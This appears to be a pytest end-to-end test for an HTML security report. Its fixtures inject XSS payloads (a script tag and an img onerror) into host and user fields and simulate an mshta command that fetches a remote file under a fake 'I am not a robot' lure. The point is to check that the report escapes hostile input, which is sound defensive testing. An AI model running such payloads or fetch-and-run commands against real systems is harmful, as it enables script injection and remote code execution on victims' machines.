"""The page of a pre-flight in a real browser: from a file, for everyone's eyes, and asking nobody."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from builders import connection, process_start
from douse.report.preflight import preflight_document
from douse.report.preflight_formats import FORMATS
from harden.preflight.fleet_logs import DAY, HOSTS, MSHTA, days_of, form, hta, inventory, on, run

if TYPE_CHECKING:
    pass

pytestmark = pytest.mark.e2e

HOSTILE = "\x1b[31mWS<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">" + "A" * 300


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A month with a business application, an intrusion with hostile names, and a fleet that nobody watched."""
    folder = tmp_path_factory.mktemp("preflight")
    inventory(folder, HOSTS)
    ran = hta(9 * DAY, f'"{MSHTA}" https://verify.example/x.mp3 {HOSTILE} # I am not a robot')
    idle = [event for host in HOSTS for event in days_of(host)]
    bad = on(HOSTS[0], [process_start(ran), connection(ran, 9 * DAY + 1, "198.51.100.77")])
    no_go = run(folder, [*idle, *form(HOSTS[0], range(2, 9)), *bad])
    uses = tuple(replace(use, hosts=(HOSTILE,), users=(HOSTILE,), destination=HOSTILE) for use in no_go.uses)
    results = {"go": run(folder, idle), "no": replace(no_go, uses=uses, unlisted=(HOSTILE,), notes=(HOSTILE,)),
               "insufficient": run(folder, days_of("STRANGER", range(2)))}
    for name, result in results.items():
        (folder / f"{name}.html").write_bytes(b"".join(FORMATS["html"](preflight_document(result))))
    return {name: folder / f"{name}.html" for name in results}


NAMES = pytest.mark.parametrize("name", ["go", "no", "insufficient"])


@NAMES
def test_it_opens_from_a_file_and_asks_for_nothing_else(name: str, open_page, pages: dict[str, Path]) -> None:
    page = open_page(pages[name])
    page.wait_for_load_state("networkidle")
    assert page.asked == [pages[name].as_uri(), "data:,"][: len(page.asked)]
    assert page.complaints == []
    assert page.title() != "owned"
    assert page.locator("h1").inner_text() == {"go": "GO", "no": "NO-GO", "insufficient": "INSUFFICIENT"}[name]


@NAMES
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_nothing_and_nothing_scrolls_sideways(name: str, scheme: str, width: int, open_page,
                                                        pages: dict[str, Path]) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page = open_page(pages[name], viewport={"width": width, "height": 900}, color_scheme=scheme)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    found = Axe().run(page).response["violations"]
    assert [(one["id"], one["nodes"][0]["html"][:200]) for one in found] == []
